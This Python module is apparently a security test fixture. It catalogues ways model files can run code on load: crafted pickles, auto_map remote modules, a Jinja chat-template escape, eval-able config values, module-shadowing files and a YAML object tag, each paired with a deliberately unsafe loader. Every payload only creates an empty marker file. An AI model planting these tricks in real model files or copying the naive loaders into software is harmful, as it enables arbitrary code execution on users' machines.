"""Every way known to us in which the files of a model run code, each with a loader naive enough to fall for it.

The payload of each makes one empty file, FIRED-NAME, and does nothing else.
"""

from __future__ import annotations

import json
import pickle
import subprocess
import sys
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from types import MappingProxyType
from typing import Any, Final

Plant = Callable[[Path, Path], None]  # model directory, marker


@dataclass(frozen=True, slots=True)
class Trick:
    plant: Plant
    naive: str  # Python that a careless program would run in the model's directory


class _Opens:
    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return open, (str(self._marker), "w")


def _edit(path: Path, **changes: object) -> None:
    held = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps({**held, **changes}))


def _code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()\n"


def _pickle(name: str) -> Plant:
    def plant(model: Path, marker: Path) -> None:
        (model / name).write_bytes(pickle.dumps(_Opens(marker)))

    return plant


def _zipped_pickle(model: Path, marker: Path) -> None:
    with zipfile.ZipFile(model / "pytorch_model.bin", "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps(_Opens(marker)))
        archive.writestr("archive/version", "3\n")


def _auto_map(file: str, key: str) -> Plant:
    def plant(model: Path, marker: Path) -> None:
        module = "tokenization_evil" if "Tokenizer" in key else "modeling_evil"
        value = [f"{module}.Evil", None] if "Tokenizer" in key else f"{module}.Evil"
        _edit(model / file, auto_map={key: value})
        (model / f"{module}.py").write_text(_code(marker) + "class Evil: pass\n")

    return plant


def _template(model: Path, marker: Path) -> None:
    attack = f"cycler.__init__.__globals__.__builtins__.open({str(marker)!r}, 'w')"
    text = "{% for m in messages %}{{ m.content }}{% endfor %}{{ " + attack + " }}"
    _edit(model / "tokenizer_config.json", chat_template=text)


def _template_file(model: Path, marker: Path) -> None:
    _template(model, marker)
    text = json.loads((model / "tokenizer_config.json").read_text())["chat_template"]
    (model / "chat_template.jinja").write_text(text)


def _custom_generate(model: Path, marker: Path) -> None:
    (model / "custom_generate").mkdir()
    (model / "custom_generate" / "generate.py").write_text(_code(marker) + "def generate(*a, **k): pass\n")
    _edit(model / "generation_config.json", custom_generate=str(model))


def _config(model: Path, marker: Path) -> None:
    evil = f"__import__('builtins').open({str(marker)!r}, 'w')"
    _edit(
        model / "config.json",
        dtype=evil,
        attn_implementation="evil/kernel",
        _attn_implementation_internal="evil/kernel",
        hidden_act=evil,
        custom_pipelines={"text-generation": {"impl": "modeling_evil.Evil", "pt": ["AutoModel"]}},
    )
    (model / "modeling_evil.py").write_text(_code(marker) + "class Evil: pass\n")


def _shadowing(model: Path, marker: Path) -> None:
    for name in ("sitecustomize", "usercustomize", "torch", "transformers", "safetensors", "json", "bitsandbytes"):
        (model / f"{name}.py").write_text(_code(marker))


def _mlmodel(model: Path, marker: Path) -> None:
    (model / "MLmodel").write_text(
        "flavors:\n  python_function:\n    loader_module: loader_evil\n    code: code\n"
        f"extra: !!python/object/apply:builtins.open [{marker}, w]\n"
    )
    (model / "code").mkdir()
    (model / "code" / "loader_evil.py").write_text(_code(marker))


_EXEC: Final = "exec(open({!r}).read())"

TRICKS: Final[Mapping[str, Trick]] = MappingProxyType(
    {
        "pickle": Trick(_pickle("pytorch_model.bin"), "import pickle; pickle.load(open('pytorch_model.bin', 'rb'))"),
        "pickle-renamed": Trick(_pickle("notes.txt"), "import pickle; pickle.load(open('notes.txt', 'rb'))"),
        "pickle-joblib": Trick(_pickle("model.joblib"), "import pickle; pickle.load(open('model.joblib', 'rb'))"),
        "pickle-torch": Trick(_zipped_pickle, "import torch; torch.load('pytorch_model.bin', weights_only=False)"),
        "auto-map": Trick(
            _auto_map("config.json", "AutoModelForCausalLM"),
            "from transformers import AutoModelForCausalLM as A; A.from_pretrained('.', trust_remote_code=True)",
        ),
        "auto-map-tokenizer": Trick(
            _auto_map("tokenizer_config.json", "AutoTokenizer"),
            "from transformers import AutoTokenizer as A; A.from_pretrained('.', trust_remote_code=True)",
        ),
        "template": Trick(
            _template,
            "import jinja2, json; t = json.load(open('tokenizer_config.json'))['chat_template'];"
            "jinja2.Template(t).render(messages=[])",
        ),
        "template-file": Trick(
            _template_file, "import jinja2; jinja2.Template(open('chat_template.jinja').read()).render(messages=[])"
        ),
        "custom-generate": Trick(_custom_generate, _EXEC.format("custom_generate/generate.py")),
        "config": Trick(_config, "import json; eval(json.load(open('config.json'))['dtype'])"),
        "shadowing": Trick(_shadowing, "import sys; sys.path.insert(0, '.'); import usercustomize"),
        "mlmodel": Trick(_mlmodel, "import yaml; yaml.unsafe_load(open('MLmodel'))"),
    }
)


def fires(trick: Trick, model: Path, marker: Path) -> bool:
    """Whether the naive loader of `trick`, in the directory where it is planted, leaves its marker."""
    subprocess.run([sys.executable, "-c", trick.naive], cwd=model, capture_output=True, check=False)
    return marker.exists()
